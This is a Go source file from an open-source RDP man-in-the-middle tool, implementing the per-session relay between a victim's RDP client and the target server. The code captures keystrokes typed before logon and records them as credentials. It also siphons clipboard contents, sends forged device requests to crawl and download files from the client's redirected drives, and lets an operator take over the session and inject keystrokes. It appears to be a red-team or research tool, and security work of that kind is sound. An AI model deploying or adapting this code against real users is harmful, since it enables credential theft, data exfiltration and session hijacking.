// RDP MITM Go - Intercepting relay for RDP sessions
// Copyright (C) 2025 - Pepijn van der Stap, pepijn@neosecurity.nl
//
// This program is free software: you can redistribute it and/or modify
// it under the terms of the GNU Affero General Public License as published
// by the Free Software Foundation, either version 3 of the License, or
// (at your option) any later version.
//
// This program is distributed in the hope that it will be useful,
// but WITHOUT ANY WARRANTY; without even the implied warranty of
// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
// GNU Affero General Public License for more details.
//
// You should have received a copy of the GNU Affero General Public License
// along with this program.  If not, see <https://www.gnu.org/licenses/>.

package mitm

import (
	"cmp"
	"context"
	"crypto/rsa"
	"errors"
	"fmt"
	"log/slog"
	"net"
	"time"

	"github.com/google/uuid"
	"golang.org/x/sync/errgroup"

	"github.com/x-stp/rdp-mitm-go/internal/logger"
	"github.com/x-stp/rdp-mitm-go/pkg/metrics"
	"github.com/x-stp/rdp-mitm-go/pkg/rdp"
	"github.com/x-stp/rdp-mitm-go/pkg/recording"
)

// Session relays one client connection to the target server. Everything
// except the exported operator methods runs on the session's loop.
type Session struct {
	ID string

	app     *AppContext
	log     *slog.Logger
	metrics *metrics.Metrics
	loop    *Loop
	state   *MITMState

	ctx   context.Context
	group *errgroup.Group

	clientConn net.Conn
	target     string
	serverHost string
	peers      [2]*peer
	sink       recording.Sink

	keys      KeystrokeCapture
	store     *FileStore
	clipboard *ClipboardRelay
	rdpdr     *DeviceRedirectionRelay
	forged    *ForgedEngine
	crawler   *Crawler
	dynvc     *DynamicChannelRelay
	nla       *NLACapture

	// requested is the client's connection request as received; narrowed
	// is the same request as sent to the server
	requested *rdp.X224ConnectionRequest
	narrowed  *rdp.X224ConnectionRequest

	clientChannels []rdp.ChannelDef
	channelNames   map[uint16]string
	serverKey      *rsa.PublicKey

	started        time.Time
	disconnectSent bool
	err            error
}

// NewSession prepares a session for a client connection accepted by the
// listener. Nothing happens until Run is called.
func NewSession(app *AppContext, clientConn net.Conn) *Session {
	id := uuid.NewString()
	s := &Session{
		ID:           id,
		app:          app,
		metrics:      app.Metrics,
		loop:         NewLoop(),
		state:        NewMITMState(),
		clientConn:   clientConn,
		target:       app.Config.Target.Address(),
		serverHost:   app.Config.Target.Host,
		channelNames: make(map[uint16]string),
	}
	s.log = app.Logger.With(
		logger.Session(id),
		logger.ClientIP(clientConn.RemoteAddr().String()),
		logger.Target(s.target),
	)

	cfg := app.Config
	s.store = NewFileStore(cfg.Output.FilesDir(), cfg.Output.FilesystemsDir(), s.log, s.metrics, s.record)
	s.store.SetMaxFileSize(uint64(cfg.Extraction.MaxFileSize))
	s.clipboard = NewClipboardRelay(cfg.Clipboard, s.loop, s.store, s.log, s.metrics, s.record)
	s.forged = NewForgedEngine(func(req *rdp.DeviceIORequest) error { return s.rdpdr.SendForged(req) }, s.store, s.log, s.metrics)
	s.crawler = NewCrawler(s.forged, s.store, app.Patterns, s.log, s.loop.Defer)
	s.crawler.Auto = cfg.Crawler.Enabled
	s.crawler.DownloadAll = cfg.Crawler.DownloadMatchedDirectories
	s.rdpdr = NewDeviceRedirectionRelay(s.forged, s.crawler, s.store, s.log, s.record)
	s.rdpdr.Extract = cfg.Extraction.Enabled
	s.rdpdr.OnUserLoggedOn = s.userLoggedOn
	s.dynvc = NewDynamicChannelRelay(s.log, s.record)
	return s
}

// Run dials the target and relays until either side disconnects or ctx is
// cancelled. A failed connect ends the session with an error; a clean
// disconnect returns nil.
func (s *Session) Run(ctx context.Context) error {
	s.started = time.Now()
	s.metrics.SessionStarted()
	defer func() { s.metrics.SessionEnded(time.Since(s.started)) }()

	s.log.Info("Client connected")
	serverConn, err := s.app.Dial(ctx, s.target)
	if err != nil {
		s.clientConn.Close()
		return fmt.Errorf("failed to connect to %s: %w", s.target, err)
	}

	s.sink = recording.NullSink{}
	if s.app.NewRecorder != nil {
		sink, err := s.app.NewRecorder(s.ID)
		if err != nil {
			s.log.Warn("Recording disabled for session", logger.Err(err))
		} else {
			s.sink = sink
		}
	}

	g, gctx := errgroup.WithContext(ctx)
	s.ctx, s.group = gctx, g
	s.peers[SideClient] = s.newPeer(SideClient, s.clientConn)
	s.peers[SideServer] = s.newPeer(SideServer, serverConn)

	if ev, err := recording.NewJSONEvent(recording.EventConnectionStart, recording.SessionInfo{
		SessionID: s.ID,
		Client:    s.clientConn.RemoteAddr().String(),
		Target:    s.target,
	}); err == nil {
		s.record(ev)
	}

	g.Go(func() error {
		err := s.loop.Run(gctx)
		// the loop is gone; teardown runs here with the readers unable to post
		s.shutdown(err)
		s.finish()
		return nil
	})
	g.Go(s.peers[SideClient].leg.ReadLoop)
	g.Go(s.peers[SideServer].leg.ReadLoop)
	g.Wait()

	if s.err != nil && !errors.Is(s.err, context.Canceled) {
		return s.err
	}
	return nil
}

// client and server return the current peers. The server peer changes when
// a fallback reconnects.
func (s *Session) client() *peer { return s.peers[SideClient] }
func (s *Session) server() *peer { return s.peers[SideServer] }

func (s *Session) record(ev recording.Event) {
	if s.sink == nil {
		return
	}
	if err := s.sink.Record(ev); err != nil {
		s.log.Warn("Failed to record event", slog.String("event", ev.Type.String()), logger.Err(err))
	}
}

func (s *Session) recordJSON(t recording.EventType, v any) {
	ev, err := recording.NewJSONEvent(t, v)
	if err != nil {
		s.log.Warn("Failed to encode event", logger.Err(err))
		return
	}
	s.record(ev)
}

// closeFrom handles the end of one leg: its connection dropped, or data it
// sent could not be relayed.
func (s *Session) closeFrom(side Side, err error) {
	s.end(err, logger.Leg(side.String()))
}

// fail ends the session from a continuation that is not tied to one leg.
func (s *Session) fail(err error) { s.end(err) }

func (s *Session) end(err error, attrs ...any) {
	if s.state.State == StateClosed {
		return
	}
	switch {
	case err == nil:
		s.log.Info("Connection closed", attrs...)
	case errors.Is(err, ErrNegotiationFailed):
		s.log.Warn("Negotiation failed", append(attrs, logger.Err(err))...)
	default:
		s.log.Error("Session failed", append(attrs, logger.Err(err))...)
	}
	s.shutdown(err)
}

// shutdown tears the session down: timers are cancelled, unfinished file
// mappings released, the disconnect propagated to whichever leg is still
// open and outstanding forged requests abandoned. It runs once.
func (s *Session) shutdown(err error) {
	if s.state.State == StateClosed {
		return
	}
	previous := s.state.State
	s.state.State = StateClosed
	if s.err == nil {
		s.err = err
	}

	s.loop.CancelAll()
	s.clipboard.Close()
	s.rdpdr.Close()

	for _, p := range s.peers {
		if p == nil {
			continue
		}
		// a leg inside CredSSP has no X.224 connection to disconnect
		if !s.disconnectSent && s.nla == nil {
			p.disconnect(previous)
		}
		p.leg.Close()
	}
	s.forged.AbandonAll()
	s.loop.Stop()
}

func (s *Session) finish() {
	if s.sink == nil {
		return
	}
	s.record(recording.Event{Type: recording.EventConnectionClose})
	if err := s.sink.Close(); err != nil {
		s.log.Warn("Failed to close recording", logger.Err(err))
	}
	s.log.Info("Session ended", slog.Duration("duration", time.Since(s.started).Round(time.Millisecond)))
}

// userLoggedOn surfaces what was typed before logon, once.
func (s *Session) userLoggedOn() {
	s.state.LoggedIn = true
	candidate, buffer := s.keys.Surface()
	if candidate == "" && buffer == "" {
		return
	}
	s.log.Info("Keystrokes before logon", slog.String("candidate", candidate), slog.String("buffer", buffer))
	s.recordJSON(recording.EventCredentials, recording.Credentials{Source: "keystrokes", Password: cmp.Or(candidate, buffer)})
	s.metrics.CredentialsCaptured("keystrokes")
}

// call runs fn on the loop and waits for its result.
func (s *Session) call(ctx context.Context, fn func() error) error {
	done := make(chan error, 1)
	if !s.loop.Post(func() {
		if s.state.State == StateClosed {
			done <- ErrSessionClosed
			return
		}
		done <- fn()
	}) {
		return ErrSessionClosed
	}
	select {
	case err := <-done:
		return err
	case <-ctx.Done():
		return ctx.Err()
	case <-s.loop.Done():
		return ErrSessionClosed
	}
}

// SendText types text into the server session as unicode key presses.
// Safe for concurrent use.
func (s *Session) SendText(ctx context.Context, text string) error {
	return s.call(ctx, func() error {
		if s.state.State != StateActive {
			return fmt.Errorf("session is not active (%s)", s.state.State)
		}
		var events []rdp.FastPathInputEvent
		for _, r := range text {
			for _, code := range utf16Units(r) {
				events = append(events,
					rdp.NewFastPathUnicodeEvent(code, false),
					rdp.NewFastPathUnicodeEvent(code, true))
			}
		}
		return s.server().fastPath.SendPDU(rdp.EncodeFastPathInput(events))
	})
}

func utf16Units(r rune) []uint16 {
	if r < 0x10000 {
		return []uint16{uint16(r)}
	}
	r -= 0x10000
	return []uint16{uint16(0xD800 + (r >> 10)), uint16(0xDC00 + (r & 0x3FF))}
}

// SetForwarding switches relaying of client input and server output. With
// both off the operator owns the session. Safe for concurrent use.
func (s *Session) SetForwarding(ctx context.Context, input, output bool) error {
	return s.call(ctx, func() error {
		s.state.ForwardInput, s.state.ForwardOutput = input, output
		s.log.Info("Forwarding changed", slog.Bool("input", input), slog.Bool("output", output))
		return nil
	})
}

// Download queues a file, or a directory recursively, on a redirected drive.
// Safe for concurrent use.
func (s *Session) Download(ctx context.Context, deviceID uint32, path string, dir bool) error {
	return s.call(ctx, func() error {
		if !s.crawler.HasDevice(deviceID) {
			return fmt.Errorf("no redirected drive with id %d", deviceID)
		}
		s.crawler.Download(deviceID, path, dir)
		return nil
	})
}
